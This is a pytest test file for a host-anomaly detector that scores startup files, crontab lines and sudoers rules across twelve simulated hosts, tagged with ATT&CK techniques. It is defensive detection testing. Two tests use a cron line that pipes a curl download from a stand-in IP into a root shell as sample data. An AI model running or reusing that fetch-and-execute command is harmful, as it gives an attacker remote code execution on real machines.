"""A file speaks no louder than its lines, and keeps its bits where no query reads it."""

from __future__ import annotations

from dataclasses import replace

import pytest

from bot.analysis import judge
from bot.analysis.contents import COMMENTS
from bot.model import Finding, Query
from tests.analysis.cases import PACK, case, honest

FILES = replace(
    PACK,
    queries=(
        *PACK.queries,
        Query(
            "startup_files",
            "SELECT path, mode, sha256 FROM file JOIN hash USING (path)",
            "What starts.",
            key=("path",),
            attack=("T1037",),
            telling=4,
        ),
    ),
)
SUDO = replace(
    PACK,
    queries=(
        *PACK.queries,
        Query(
            "sudoers",
            "SELECT source, header, rule_details FROM sudoers",
            "Who may be root.",
            attack=("T1548.003",),
        ),
        Query(
            "login_files",
            "SELECT path, mode, sha256 FROM file JOIN hash USING (path)",
            "What decides about logins.",
            key=("path",),
            attack=("T1556.003",),
            telling=4,
        ),
    ),
)
SHARED_PROGRAM = {"path": "/usr/local/bin/sitemap", "mode": "0755", "sha256": "d" * 64}
CRON_FILE = {"path": "/etc/cron.d/leader", "mode": "0644", "sha256": "c" * 64}


def findings(command: str, *, told: bool = True) -> dict[str, Finding]:
    """Return by query the findings on one of twelve hosts that has a cron file with this line; not ``told``: no query reads it."""
    hosts = honest(12)
    for index, (_, rows) in enumerate(hosts):
        rows["startup_files"] = [SHARED_PROGRAM, *([CRON_FILE] if index == 4 else [])]
    if told:
        hosts[4][1]["crontab"].append({"command": command, "path": CRON_FILE["path"]})
    report = judge(case(hosts, pack=FILES))
    return {
        query: finding
        for finding in report.of_host(hosts[4][0].id)
        for query in (finding.query, *(fact.query for fact in finding.also))
    }


def test_a_file_is_worth_what_its_sharpest_line_is_worth() -> None:
    """The line starts only what most hosts have, which lowers it; its file alone would be sharper."""
    told, alone = findings("ada /usr/local/bin/sitemap"), findings("", told=False)

    assert alone["startup_files"].score > told["crontab"].score
    assert told["startup_files"].score <= told["crontab"].score


def test_a_file_with_a_sharp_line_is_as_sharp_as_by_itself() -> None:
    """What the file is worth is never raised."""
    sharp, alone = findings("root curl http://192.0.2.9/x | sh"), findings("", told=False)

    own = [fact.score for fact in sharp["crontab"].also if fact.query == "startup_files"]

    assert own == [alone["startup_files"].score]


@pytest.mark.parametrize("command", ["ada /usr/local/bin/sitemap", "root curl http://192.0.2.9/x | sh"])
def test_the_parts_still_add_up(command: str) -> None:
    """Also where something is taken off because the lines are told."""
    for finding in findings(command).values():
        assert round(sum(part.bits for part in finding.parts), 2) == round(finding.score, 2)


@pytest.mark.parametrize(
    ("rules", "at_most"),
    [
        (
            ({"source": "/etc/sudoers.d/90-cloud", "header": "ada", "rule_details": "ALL=(ALL) ALL"},),
            COMMENTS,
        ),
        ((), None),
        (None, None),
    ],
)
def test_a_sudoers_file_whose_rules_are_those_of_the_others(
    rules: tuple[dict[str, str], ...] | None, at_most: float | None
) -> None:
    """Its digest differs, its rules do not: a comment. A rule that is missing, or that nobody told, is more than that."""
    usual = {"source": "/etc/sudoers.d/90-cloud", "header": "ada", "rule_details": "ALL=(ALL) ALL"}
    hosts = honest(12)
    for index, (_, rows) in enumerate(hosts):
        digest = ("e" if index == 4 else "d") * 64
        rows["login_files"] = [{"path": usual["source"], "mode": "0440", "sha256": digest}]
        rows["sudoers"] = [usual]
    if rules is None:
        del hosts[4][1]["sudoers"]
    else:
        hosts[4][1]["sudoers"] = list(rules)

    report = judge(case(hosts, pack=SUDO))

    findings = report.of_host(hosts[4][0].id)
    found = [finding.score for finding in findings if finding.query == "login_files"]
    found += [fact.score for finding in findings for fact in finding.also if fact.query == "login_files"]
    assert len(found) <= 1
    assert bool(found) or at_most is not None
    assert all(score <= at_most if at_most is not None else score > COMMENTS for score in found)
